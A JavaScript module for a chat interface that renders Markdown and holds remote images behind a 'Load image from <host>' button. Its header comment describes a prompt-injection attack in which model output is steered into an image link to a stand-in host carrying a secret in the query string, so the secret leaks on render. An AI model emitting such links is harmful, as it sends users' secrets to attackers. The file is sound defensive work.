// Markdown for the chat with remote images held back until the user allows them.
//
// Model output can be steered by a prompt injection into `![x](https://evil.example/?d=<secret>)`:
// rendering that <img> would send the secret away without a click. So sanitised Markdown is built
// in an inert <template> (nothing in it loads), and every image that is not the app's own or a
// data: URL becomes a "Load image from <host>" button. The page's Content-Security-Policy
// (img-src, widened only by CSP_IMG_SRC) still applies after the click.
import { renderMarkdown } from "../vendor/markdown.js";

const allowed = new Set();  // image URLs the user allowed on this page (kept across re-renders while streaming)

function isRemote(url) {
  return url.protocol !== "data:" && url.origin !== location.origin;
}

function parseUrl(value) {
  try { return new URL(value, location.href); } catch { return null; }
}

function loadImage(button, src, alt, host) {
  allowed.add(src);
  const img = document.createElement("img");
  img.alt = alt;
  img.className = "remote-image";
  img.addEventListener("error", () => {
    const note = document.createElement("span");
    note.className = "image-gate failed";
    note.textContent = `Could not load the image from ${host} (unreachable, or not allowed by the app's image policy, CSP_IMG_SRC).`;
    img.replaceWith(note);
  }, { once: true });
  img.src = src;
  button.replaceWith(img);
}

function gate(img) {
  const url = parseUrl(img.getAttribute("src") || "");
  img.removeAttribute("srcset");  // a second, unchecked list of URLs
  if (!url || !isRemote(url) || allowed.has(url.href)) return;
  const alt = img.getAttribute("alt") || "";
  const button = document.createElement("button");
  button.type = "button";
  button.className = "image-gate";
  button.dataset.src = url.href;
  button.title = url.href;
  button.textContent = `Load image from ${url.host}${alt ? ` (“${alt}”)` : ""}`;
  button.addEventListener("click", () => loadImage(button, url.href, alt, url.host), { once: true });
  img.replaceWith(button);
}

/** Sanitised Markdown as a fragment to insert, with remote images behind a click. */
export function renderChatMarkdown(text) {
  const template = document.createElement("template");
  template.innerHTML = renderMarkdown(text);
  const root = template.content;
  root.querySelectorAll("img").forEach(gate);
  // Other media: never load from elsewhere (the CSP would refuse them anyway).
  root.querySelectorAll("video, audio, source, track, picture source").forEach((node) => {
    for (const attr of ["src", "poster", "srcset"]) {
      const value = node.getAttribute(attr);
      if (value === null) continue;
      const url = parseUrl(value);
      if (attr === "srcset" || !url || isRemote(url)) node.removeAttribute(attr);
    }
  });
  return root;  // adopted (listeners kept) when inserted
}
